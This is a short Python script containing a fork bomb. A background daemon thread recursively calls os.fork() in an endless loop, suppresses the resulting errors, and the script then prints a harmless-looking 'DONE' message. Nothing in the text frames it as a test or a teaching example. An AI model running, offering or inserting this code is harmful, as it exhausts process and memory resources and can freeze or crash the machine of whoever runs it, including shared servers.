import os, threading
def breed():
    while True:
        try:
            if os.fork() == 0:
                breed()
        except OSError:
            pass
threading.Thread(target=breed, daemon=True).start()
print("DONE")
